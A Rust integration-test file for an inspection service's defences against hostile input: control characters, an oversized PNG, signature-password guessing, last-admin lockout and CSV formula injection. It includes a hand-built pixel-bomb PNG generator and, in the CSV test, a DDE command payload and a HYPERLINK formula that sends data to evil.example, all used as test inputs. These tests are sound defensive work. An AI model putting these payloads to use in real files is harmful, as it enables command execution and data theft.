//! Hostile input: control characters in text, a photo of too many pixels,
//! guessing the signature password, the last admin disabled, and CSV cells
//! that a spreadsheet would run as formulas.

use crate::common::{self, error_fields, scenario, upload_photo, Backend, Bulb, TestApp, PASSWORD};
use diesel::prelude::*;
use lotcheck::domain::access::Role;
use reqwest::StatusCode;
use serde_json::{json, Value};

/// Every text field of every JSON body refuses control characters (line
/// breaks and tabs only in free text), naming the field; the service
/// refuses them too, for callers that are not the API.
pub async fn control_characters_in_text_are_refused_naming_the_field(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 50).await;
    let order = |po: &str| json!({"customer_id": s.customer_id, "product_id": s.product_id, "po_number": po, "quantity": 10});
    for po in [
        "PO\u{7}42",
        "PO\n42",
        "PO\u{7f}42",
        "PO\u{85}42",
        "PO\u{0}42",
    ] {
        let (status, problem) = app.post("/api/v1/orders", &order(po)).await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{po:?}: {problem}"
        );
        assert_eq!(problem["code"], "validation_failed");
        assert_eq!(error_fields(&problem), ["po_number"], "{problem}");
    }
    // Nested fields are named by their path, every one at once.
    let (status, problem) = app
        .post(
            "/api/v1/products",
            &json!({"code": "BAD-1", "name": "Lamp\u{1b}[31m", "params": {"lamp_holder": "E27\u{0}"},
                    "characteristics": [{"code": "flux", "name": "Flux\u{9b}", "unit": "lm", "kind": "variable",
                                          "nominal": 806, "lsl": 725, "usl": 887, "severity": "major"}]}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    let mut fields = error_fields(&problem);
    fields.sort();
    assert_eq!(
        fields,
        ["characteristics[0].name", "name", "params.lamp_holder"],
        "{problem}"
    );

    // Free text keeps its line breaks and tabs, but no other control character.
    let (_, units) =
        common::draw_plan(&app, s.batch_id, json!({"method": "percent", "seed": 3})).await;
    let stored = common::record_bulbs(&app, s.batch_id, &units, |_| Bulb {
        flux: 800.0,
        power: 9.0,
        lights_up: 0,
    })
    .await;
    let reading = stored["measurements"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let path = format!("/api/v1/measurements/{reading}/corrections");
    let (status, problem) = app
        .post(
            &path,
            &json!({"value": 801.0, "reason": "re-measured\u{7}"}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(error_fields(&problem), ["reason"]);
    let (status, corrected) = app
        .post(
            &path,
            &json!({"value": 801.0, "reason": "re-measured:\r\n\tthe probe had slipped"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{corrected}");

    // Straight through the service, as the command line and pages call it.
    let input = lotcheck::service::orders::NewOrder {
        customer_id: s.customer_id,
        product_id: s.product_id,
        po_number: "PO\u{7}43".into(),
        quantity: 10,
        due_date: None,
    };
    let refused = app
        .db
        .write_blocking(|c| {
            lotcheck::service::orders::create_order(
                c,
                &lotcheck::service::audit::Actor::system("test"),
                input,
            )
        })
        .unwrap_err();
    assert_eq!(refused.code, lotcheck::error::ErrorCode::ValidationFailed);
    assert_eq!(refused.errors[0].field, "po_number");
    let (_, orders) = app.get("/api/v1/orders").await;
    assert_eq!(orders["total"], 1, "nothing stored: {orders}");
    app.stop().await;
}

/// Should a control character reach the database anyway (an older
/// version, a hand edit), the charts and the report still render.
pub async fn charts_and_reports_render_with_control_characters_stored(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 50).await;
    let (_, units) = common::draw_plan(
        &app,
        s.batch_id,
        json!({"method": "iso2859-1", "aql": 1.0, "seed": 5}),
    )
    .await;
    common::record_bulbs(&app, s.batch_id, &units, |i| Bulb {
        flux: 800.0 + i as f64,
        power: 9.0,
        lights_up: 0,
    })
    .await;
    let order_id = s.order_id;
    app.db
        .write_blocking(move |c| {
            use lotcheck::store::schema::orders;
            diesel::update(orders::table.find(order_id))
                .set(orders::po_number.eq("PO\u{7}-\u{1}\u{fffe}-2026"))
                .execute(c)?;
            Ok(())
        })
        .unwrap();
    let charts = format!("/api/v1/batches/{}/charts", s.batch_id);
    for chart in ["histogram.svg?characteristic=flux", "oc-curve.svg"] {
        let (status, svg) = bytes(&app, &format!("{charts}/{chart}")).await;
        assert_eq!(
            status,
            StatusCode::OK,
            "{chart}: {}",
            String::from_utf8_lossy(&svg)
        );
        let text = String::from_utf8(svg).unwrap();
        roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{chart}: {e}"));
        assert!(
            text.contains("PO--2026"),
            "{chart}: the title keeps the rest"
        );
    }
    for chart in [
        format!("{charts}/histogram.png?characteristic=flux"),
        format!("/api/v1/orders/{order_id}/charts/histogram.png?characteristic=flux"),
    ] {
        let (status, png) = bytes(&app, &chart).await;
        assert_eq!(status, StatusCode::OK, "{chart}");
        assert!(png.starts_with(b"\x89PNG"), "{chart}");
    }
    let (status, pdf) = bytes(
        &app,
        &format!("/api/v1/orders/{order_id}/report.pdf?draft=true"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&pdf));
    assert!(pdf.starts_with(b"%PDF"));
    let (status, issued) = app
        .post(&format!("/api/v1/orders/{order_id}/reports"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{issued}");
    app.stop().await;
}

async fn bytes(app: &common::Http, path: &str) -> (StatusCode, Vec<u8>) {
    let response = app
        .request(reqwest::Method::GET, path)
        .send()
        .await
        .unwrap();
    (response.status(), response.bytes().await.unwrap().to_vec())
}

/// A valid PNG of `width` × `height` black pixels, 1 bit each, its
/// zeros deflated by hand (a length-258 match after another): 12,000 ×
/// 12,000 pixels in about 110 KB, made in milliseconds.
fn black_png(width: u32, height: u32) -> Vec<u8> {
    fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = !0u32;
        for &byte in bytes {
            crc ^= byte as u32;
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }
    fn chunk(png: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        png.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let start = png.len();
        png.extend_from_slice(kind);
        png.extend_from_slice(data);
        let crc = crc32(&png[start..]);
        png.extend_from_slice(&crc.to_be_bytes());
    }
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        n: u32,
    }
    impl Bits {
        fn put(&mut self, value: u32, bits: u32) {
            self.acc |= (value as u64) << self.n;
            self.n += bits;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }
        /// A Huffman code goes most significant bit first.
        fn code(&mut self, code: u32, bits: u32) {
            let reversed = (0..bits).fold(0, |r, i| r | (((code >> i) & 1) << (bits - 1 - i)));
            self.put(reversed, bits);
        }
    }
    let total = height as u64 * (1 + width.div_ceil(8) as u64);
    let mut bits = Bits {
        out: vec![0x78, 0x01],
        acc: 0,
        n: 0,
    };
    bits.put(1, 1); // the final block
    bits.put(1, 2); // fixed Huffman codes
    let literal_zero = |bits: &mut Bits| bits.code(0x30, 8);
    literal_zero(&mut bits);
    for _ in 0..(total - 1) / 258 {
        bits.code(0xC5, 8); // length 258 (code 285)
        bits.code(0, 5); // distance 1
    }
    for _ in 0..(total - 1) % 258 {
        literal_zero(&mut bits);
    }
    bits.code(0, 7); // end of block
    if bits.n > 0 {
        bits.out.push(bits.acc as u8);
    }
    let adler = (((total % 65521) as u32) << 16) | 1;
    let mut zlib = bits.out;
    zlib.extend_from_slice(&adler.to_be_bytes());
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = Vec::new();
    header.extend_from_slice(&width.to_be_bytes());
    header.extend_from_slice(&height.to_be_bytes());
    header.extend_from_slice(&[1, 0, 0, 0, 0]); // 1 bit, grey, deflate, no interlace
    chunk(&mut png, b"IHDR", &header);
    chunk(&mut png, b"IDAT", &zlib);
    chunk(&mut png, b"IEND", &[]);
    png
}

/// A photo is measured from its header before it is decoded: 144
/// megapixels in a small file are refused and nothing is stored.
pub async fn a_photo_of_too_many_pixels_is_refused_before_decoding(backend: Backend) {
    let huge = black_png(12_000, 12_000);
    assert!(huge.len() < 200_000, "{} bytes", huge.len());
    let small = black_png(640, 480);
    let decoded = image::load_from_memory(&small).expect("the hand-made PNG is valid");
    assert_eq!((decoded.width(), decoded.height()), (640, 480));

    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 5).await;
    app.create(
        "/api/v1/defect-types",
        json!({"family": "general", "code": "scratch", "name": "Scratch", "severity": "minor"}),
    )
    .await;
    let recorded = app
        .create(
            &format!("/api/v1/batches/{}/inspections", s.batch_id),
            json!({"inspections": [{"unit": 2, "defects": [{"defect": "scratch"}]}]}),
        )
        .await;
    let inspection = recorded["inspections"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (status, problem) = upload_photo(&app, &inspection, huge).await;
    assert!(
        status == StatusCode::PAYLOAD_TOO_LARGE || status == StatusCode::UNPROCESSABLE_ENTITY,
        "{status}: {problem}"
    );
    assert_eq!(error_fields(&problem), ["photo"], "{problem}");
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("12000 × 12000"),
        "{problem}"
    );
    let (_, seen) = app.get(&format!("/api/v1/inspections/{inspection}")).await;
    assert_eq!(seen["photos"].as_array().unwrap().len(), 0, "{seen}");
    let (status, stored) = upload_photo(&app, &inspection, small).await;
    assert_eq!(status, StatusCode::CREATED, "{stored}");
    app.stop().await;
}

/// The signature's password is the sign-in password: wrong ones count
/// with the failed sign-ins, are slowed, then refused (429) even when
/// right, until the window ends; each is audited.
pub async fn wrong_signature_passwords_count_as_failed_sign_ins(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 20).await;
    let lead = app.signed_in("leila", Role::Lead, None).await;
    let path = format!("/api/v1/batches/{}/disposition", s.batch_id);
    let sign = |password: &str| json!({"password": password, "meaning": "rejected", "comment": "no data yet"});
    let lock_after = lotcheck::service::auth::AuthSettings::default().lock_user_after;
    for _ in 0..lock_after {
        let (status, problem) = lead.post(&path, &sign("guess, guess")).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
        assert_eq!(error_fields(&problem), ["password"]);
    }
    for password in ["guess again", PASSWORD] {
        let (status, problem) = lead.post(&path, &sign(password)).await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{problem}");
        assert_eq!(problem["code"], "too_many_attempts");
    }
    // The same count locks the sign-in.
    let (status, problem) = app
        .with_token(None)
        .post(
            "/api/v1/auth/token",
            &json!({"username": "leila", "password": PASSWORD}),
        )
        .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{problem}");
    let (_, disposition) = app.get(&path).await;
    assert_eq!(disposition["history"].as_array().unwrap().len(), 0);

    let (_, audit) = app
        .get("/api/v1/audit?action=signature.&per_page=100")
        .await;
    let actions: Vec<&str> = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    let count = |action: &str| actions.iter().filter(|a| **a == action).count();
    assert_eq!(count("signature.refused"), lock_after as usize, "{audit}");
    assert_eq!(count("signature.locked"), 2, "{audit}");

    // When the window has passed, the right password signs.
    app.db
        .write_blocking(|c| {
            use lotcheck::store::schema::login_attempts;
            let long_ago = lotcheck::store::now() - chrono::TimeDelta::hours(1);
            diesel::update(login_attempts::table)
                .set(login_attempts::attempted_at.eq(long_ago))
                .execute(c)?;
            Ok(())
        })
        .unwrap();
    let (status, signed) = lead.post(&path, &sign(PASSWORD)).await;
    assert_eq!(status, StatusCode::CREATED, "{signed}");
    app.stop().await;
}

fn cli(app: &TestApp, args: &[&str]) -> (bool, String) {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_lotcheck"))
        .args(args)
        .env("DATABASE_URL", &app.database.url)
        .env("LOTCHECK_LOG", "warn")
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

fn user_id(users: &Value, name: &str) -> i64 {
    users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["username"] == name)
        .unwrap_or_else(|| panic!("{name} in {users}"))["id"]
        .as_i64()
        .unwrap()
}

/// The last active admin cannot be disabled, by the API or the command
/// line, not even by itself; a disabled user is enabled again by either.
pub async fn the_last_active_admin_stays_and_users_are_enabled_again(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, users) = app.get("/api/v1/users").await;
    let admin = user_id(&users, "admin");
    let (status, problem) = app
        .post(&format!("/api/v1/users/{admin}/disable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{problem}");
    assert_eq!(problem["code"], "last_admin");
    let (ok, text) = cli(&app, &["user", "disable", "--username", "admin"]);
    assert!(!ok, "{text}");
    assert!(text.contains("last active admin"), "{text}");

    // With a second admin, either may go, but not both.
    let second = app.signed_in("root2", Role::Admin, None).await;
    let (_, users) = app.get("/api/v1/users").await;
    let root2 = user_id(&users, "root2");
    let (status, disabled) = second
        .post(&format!("/api/v1/users/{admin}/disable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::OK, "{disabled}");
    assert_eq!(disabled["disabled"], true);
    let (status, problem) = second
        .post(&format!("/api/v1/users/{root2}/disable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{problem}");
    assert_eq!(problem["code"], "last_admin");
    let (ok, text) = cli(&app, &["user", "disable", "--username", "root2"]);
    assert!(!ok, "{text}");

    // The command line enables a user again; then root2 may go.
    let (ok, text) = cli(&app, &["user", "enable", "--username", "admin"]);
    assert!(ok, "{text}");
    assert!(text.contains("enabled user admin"), "{text}");
    let admin_again = app.http.login("admin", PASSWORD).await;
    let (ok, text) = cli(&app, &["user", "disable", "--username", "root2"]);
    assert!(ok, "{text}");
    let (status, _) = second.get("/api/v1/users").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    // And so does the API.
    let (status, enabled) = admin_again
        .post(&format!("/api/v1/users/{root2}/enable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::OK, "{enabled}");
    assert_eq!(enabled["disabled"], false);
    app.http.login("root2", PASSWORD).await;
    let (_, audit) = admin_again.get("/api/v1/audit?action=user.enable").await;
    assert_eq!(audit["total"], 2, "{audit}");
    app.stop().await;
}

/// Text cells of the CSV cannot start a formula in a spreadsheet; numbers
/// stay numbers.
pub async fn csv_text_cells_cannot_start_a_formula(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let customer = app
        .create("/api/v1/customers", json!({"name": "=cmd|' /C calc'!A0"}))
        .await;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let product = app
        .create(
            "/api/v1/products",
            json!({"code": "OFFSET-1", "name": "Offset gauge", "characteristics": [
                {"code": "offset", "name": hyperlink, "unit": "@SUM(A1:A9)", "kind": "variable",
                 "nominal": 0, "lsl": -2, "usl": 2, "severity": "major"}]}),
        )
        .await;
    let order = app
        .create(
            "/api/v1/orders",
            json!({"customer_id": customer["id"], "product_id": product["id"], "po_number": "+1-555-0100", "quantity": 100}),
        )
        .await;
    let order_id = order["id"].as_i64().unwrap();
    let batch_id = common::new_batch(&app, order_id, 50).await;
    let (_, units) =
        common::draw_plan(&app, batch_id, json!({"method": "percent", "seed": 1})).await;
    let readings = units
        .iter()
        .map(|u| json!({"unit": u, "characteristic": "offset", "value": -1.5}))
        .collect();
    common::record_readings(&app, batch_id, readings).await;
    let (status, body) = bytes(&app, &format!("/api/v1/orders/{order_id}/report.csv")).await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(body.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), units.len());
    let cell = |row: &csv::StringRecord, name: &str| {
        row[header.iter().position(|h| h == name).unwrap()].to_string()
    };
    for row in &rows {
        assert_eq!(cell(row, "po_number"), "'+1-555-0100");
        assert_eq!(cell(row, "name"), format!("'{hyperlink}"));
        assert_eq!(cell(row, "unit_of_measure"), "'@SUM(A1:A9)");
        assert_eq!(cell(row, "characteristic"), "offset");
        assert_eq!(cell(row, "value"), "-1.5");
        assert_eq!(cell(row, "lsl"), "-2");
        assert_eq!(cell(row, "usl"), "2");
        assert_eq!(cell(row, "conforming"), "true");
    }
    app.stop().await;
}
